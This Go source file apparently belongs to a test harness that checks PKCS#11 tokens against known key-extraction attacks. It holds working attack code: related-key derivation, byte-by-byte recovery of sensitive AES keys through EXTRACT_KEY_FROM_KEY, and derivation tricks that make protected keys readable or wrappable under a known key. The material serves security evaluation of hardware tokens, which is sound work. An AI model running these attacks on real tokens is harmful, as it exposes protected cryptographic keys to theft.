package abuse

import (
	"bytes"
	"crypto/aes"
	"crypto/subtle"
	"errors"
	"fmt"

	"github.com/miekg/pkcs11"
)

// relatedKey makes a key that differs from the victim by what is wanted, and uses it: Bond and
// Anderson (2001) take keys and control vectors apart with such.
func relatedKey(h *Hostile, victim key) error {
	base, value, err := h.victim(victim, 16)
	if err != nil {
		return err
	}
	offset := random(16)
	o, err := h.deriveData(pkcs11.CKM_XOR_BASE_AND_DATA, offset, base, aesKey(pkcs11.CKA_ENCRYPT).of(16))
	if err != nil {
		return err
	}
	subtle.XORBytes(offset, offset, value)
	return h.enciphersLike(o, offset)
}

// byteByByte finds an AES key that may derive: each byte alone becomes a key with 15 known
// bytes behind it, which enciphers nothing but zeros and is found in 256 trials.
func byteByByte(h *Hostile, victim key) error {
	base, value, err := h.victim(victim, 32)
	if err != nil {
		return err
	}
	got, err := h.search(base, len(value))
	if err != nil {
		return err
	}
	return same(got, value)
}

// search finds the value of an object of size bytes.
func (h *Hostile) search(base object, size int) ([]byte, error) {
	found := make([]byte, size)
	for i := range found {
		one, err := h.deriveNumber(pkcs11.CKM_EXTRACT_KEY_FROM_KEY, uint(8*i), base, secret(pkcs11.CKA_DERIVE).of(1))
		if err != nil {
			return nil, err
		}
		alone, err := h.deriveData(pkcs11.CKM_CONCATENATE_BASE_AND_DATA, make([]byte, 15), one, aesKey(pkcs11.CKA_ENCRYPT).of(16))
		if err != nil {
			return nil, err
		}
		answer, err := h.encrypt(mechanism(pkcs11.CKM_AES_ECB), alone, make([]byte, 16))
		if err != nil {
			return nil, err
		}
		if found[i], err = guess(answer); err != nil {
			return nil, err
		}
	}
	return found, nil
}

// guess finds the first byte of a key whose others are zero by what it makes of zeros, in at
// most 256 trials.
func guess(answer []byte) (byte, error) {
	candidate, out := make([]byte, 16), make([]byte, 16)
	for trial := range 256 {
		candidate[0] = byte(trial)
		block, err := aes.NewCipher(candidate)
		if err != nil {
			return 0, err
		}
		if block.Encrypt(out, make([]byte, 16)); bytes.Equal(out, answer) {
			return byte(trial), nil
		}
	}
	return 0, errors.New("none of 256 values is the byte")
}

// derivation is a mechanism that makes an object of another, and what its value must be.
type derivation struct {
	name   string
	derive func(h *Hostile, base object, k key) (object, error)
	want   func(base []byte) []byte
}

// derivations are all that PKCS#11 2.40 has for secret keys and that one of the tokens has.
var derivations = []derivation{
	{"AES_ECB_ENCRYPT_DATA", func(h *Hostile, base object, k key) (object, error) {
		return h.deriveData(pkcs11.CKM_AES_ECB_ENCRYPT_DATA, make([]byte, 16), base, k.of(16))
	}, func(base []byte) []byte {
		block, err := aes.NewCipher(base)
		if err != nil {
			panic(err) // the base is an AES key
		}
		out := make([]byte, 16)
		block.Encrypt(out, out)
		return out
	}},
	{"XOR_BASE_AND_DATA", func(h *Hostile, base object, k key) (object, error) {
		return h.deriveData(pkcs11.CKM_XOR_BASE_AND_DATA, make([]byte, 16), base, k.of(16))
	}, bytes.Clone},
	{"EXTRACT_KEY_FROM_KEY", func(h *Hostile, base object, k key) (object, error) {
		return h.deriveNumber(pkcs11.CKM_EXTRACT_KEY_FROM_KEY, 0, base, k.of(8))
	}, func(base []byte) []byte { return base[:8] }},
	{"CONCATENATE_BASE_AND_DATA", func(h *Hostile, base object, k key) (object, error) {
		return h.deriveData(pkcs11.CKM_CONCATENATE_BASE_AND_DATA, make([]byte, 8), base, k.of(24))
	}, func(base []byte) []byte { return append(bytes.Clone(base), make([]byte, 8)...) }},
	{"CONCATENATE_DATA_AND_BASE", func(h *Hostile, base object, k key) (object, error) {
		return h.deriveData(pkcs11.CKM_CONCATENATE_DATA_AND_BASE, make([]byte, 8), base, k.of(24))
	}, func(base []byte) []byte { return append(make([]byte, 8), base...) }},
	{"CONCATENATE_BASE_AND_KEY", func(h *Hostile, base object, k key) (object, error) {
		empty, err := h.create(secret(pkcs11.CKA_DERIVE, pkcs11.CKA_EXTRACTABLE), make([]byte, 8))
		if err != nil {
			return 0, needed(err)
		}
		return h.deriveNumber(pkcs11.CKM_CONCATENATE_BASE_AND_KEY, uint(empty), base, k.of(24))
	}, func(base []byte) []byte { return append(bytes.Clone(base), make([]byte, 8)...) }},
}

// derivedRead derives what can be read from a sensitive key.
func derivedRead(d derivation, base key) func(*Hostile) error {
	return func(h *Hostile) error {
		o, value, err := h.victim(base, 16)
		if err != nil {
			return err
		}
		derived, err := d.derive(h, o, readable())
		if err != nil {
			return err
		}
		return h.reads(derived, d.want(value))
	}
}

// derivedWrapped derives what is sensitive and extractable, and wraps it under a known key.
func derivedWrapped(d derivation, base key) func(*Hostile) error {
	return func(h *Hostile) error {
		o, value, err := h.victim(base, 16)
		if err != nil {
			return err
		}
		derived, err := d.derive(h, o, secret(pkcs11.CKA_EXTRACTABLE, pkcs11.CKA_DERIVE))
		if err != nil {
			return err
		}
		if leaves, err := h.flag(derived, pkcs11.CKA_EXTRACTABLE); err != nil || !leaves {
			return errors.Join(err, instead("made unextractable all the same"))
		}
		want := d.want(value)
		if len(want) < 16 { // RFC 3394 takes two blocks of 8 bytes or more
			if derived, err = h.deriveData(pkcs11.CKM_CONCATENATE_BASE_AND_DATA, make([]byte, 8), derived, secret(pkcs11.CKA_EXTRACTABLE)); err != nil {
				return fmt.Errorf("making it longer: %w", err)
			}
			want = append(want, make([]byte, 8)...)
		}
		kekValue := random(32)
		kek, err := h.create(aesKey(pkcs11.CKA_WRAP), kekValue)
		if err != nil {
			return needed(err)
		}
		return h.opened(kek, kekValue, derived, want)
	}
}
